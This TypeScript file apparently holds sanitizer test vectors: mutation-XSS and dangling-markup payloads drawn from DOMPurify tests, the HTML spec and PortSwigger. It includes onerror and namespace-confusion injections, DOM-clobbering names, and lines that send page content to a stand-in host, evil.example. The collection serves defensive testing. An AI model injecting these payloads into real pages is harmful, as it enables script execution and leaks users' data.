const image = "<img src=x onerror=top.ran=1>";

/**
 * HTML that becomes something else once it is read again, or that a reader of single tags takes for something else than
 * browsers do: after the tests of DOMPurify for mutation (https://github.com/cure53/DOMPurify/tree/main/test), the
 * standard’s own notes on what comes back differently
 * (https://html.spec.whatwg.org/multipage/parsing.html#serialising-html-fragments), and PortSwigger on dangling markup
 * (https://portswigger.net/web-security/cross-site-scripting/dangling-markup). They do what `markupVectors` do.
 */
export const mutationVectors: readonly string[] = [
  // Foreign content, in which other rules hold.
  `<svg><style><a title="</style>${image}">`,
  `<svg></svg><svg><title><a title="</title>${image}">`,
  `<svg><desc><noscript><a title="</noscript>${image}">`,
  `<svg><foreignObject><style><a title="</style>${image}"></foreignObject></svg>`,
  `<svg><![CDATA[</svg>${image}]]></svg>`,
  `<svg><p><style><!--</style><a title="-->${image}">`,
  `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  `<math><mtext><mglyph><style><![CDATA[</style>${image}]]>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
  `<math><mi><b><table><svg><mi><style><a title="</style>${image}">`,
  // Content that is read as text.
  `<template><style><a title="</style></template>${image}">`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
  `<select><option><style></option></select>${image}</style>`,
  `<noembed><noframes></noembed>${image}</noframes>`,
  `<textarea></textarea ><p title="</textarea>${image}">`,
  `<title><!--</title>${image}-->`,
  `<script><!--<script></script>${image}--></script>`,
  `<plaintext></plaintext>${image}`,
  "<pre>\n\n&lt;img src=x onerror=top.ran=1&gt;</pre><listing>&lt;img src=x onerror=top.ran=1&gt;</listing>",
  `<p title="</title></textarea></noscript></style></script>--&gt;]]&gt;${image}">a</p>`,
  `<p title="\`" id=\`${image}\`>a</p>`,
  // Comments, declarations and ends.
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!--a--!>${image}-->`,
  `<!--<!-- --!>${image}-->`,
  `<!-- a -- >${image}-->`,
  `<!a "${image}">`,
  `<!doctype a [<!entity b "${image}">]>&b;`,
  `<?a title="?>${image}">`,
  `</a title="${image}">`,
  `</ >${image}</ a>`,
  `<%a ${image} %>`,
  // Tags that end elsewhere than they seem to.
  `<b title='a" ${image}' x="'>">`,
  `<b title="a"title='b' ${image}>`,
  `<b "=">${image}`,
  `<b x=">" y='>'${image}>`,
  `<b =">${image}">`,
  `<b/title="/>${image}">`,
  `<img\fsrc=x\fonerror=top.ran=1>`,
  `<img/src=x/onerror=top.ran=1>`,
  `<svg\nonload\n=\ntop.ran=1>`,
  `<img src=x on\0error=top.ran=1><\0img src=x onerror=top.ran=1><im\0g src=x onerror=top.ran=1>`,
  "<scr\u0131pt>top.ran=1</scr\u0131pt><\u017Fcript>top.ran=1</\u017Fcript>\uFF1Cscript\uFF1Etop.ran=1",
  `<<b>${image}<</b>`,
  `<a:b><svg:script>top.ran=1</svg:script></a:b>${image}`,
  `${"<div>".repeat(600)}<table><svg><style><a title="</style>${image}">`,
  `${"<b>".repeat(90)}<p>${"</b>".repeat(90)}<a title="${image}">`,
  // Tags that Markdown cuts.
  `<b title="\n\n${image}\n\n">`,
  `<b title="\n\n# a ${image}\n\n"`,
  `- <b title="\n- ${image}">`,
  `> <b title="\n\n${image}">`,
  `| <b title=" | ${image}"> |\n| - | - |`,
  `*<b title="*${image}*">*`,
  `[<b title="](/a "${image}")">`,
  `![<b title="](/a.png "${image}")">`,
  `\`<b title="\`${image}\`">\``,
  `<b title="\\">${image}">`,
  `a[^b]<b title="\n\n[^b]: ${image}">`,
  `<b title=":abbr[a]{title="b"}${image}">`,
  `:::callout{title="<b title='"}\n'>${image}\n:::`,
  `<details><summary>\n\n</details>\n\n${image}</summary>`,
  `<table><tr><td>\n\n</table>\n\n${image}`,
  // Names that stand in for properties of a document, and addresses that take the rest of a page along.
  "<img name=currentScript><form id=x><input name=attributes><iframe name=top></iframe><object id=body></object>",
  "<img src='//evil.example/?\n\na\n\n'>",
  "<img src=//evil.example/?><input type=image src=//evil.example/a><input src=//evil.example/b>",
  "<table background=//evil.example/a><tr><td background=//evil.example/b style=background:url(//evil.example/c)>",
  "<a href=/contact ping=//evil.example/a>a</a><form action=//evil.example><button formaction=//evil.example>b",
  "<base target='<meta http-equiv=refresh content='0;url=//evil.example/?\n\na'>",
];
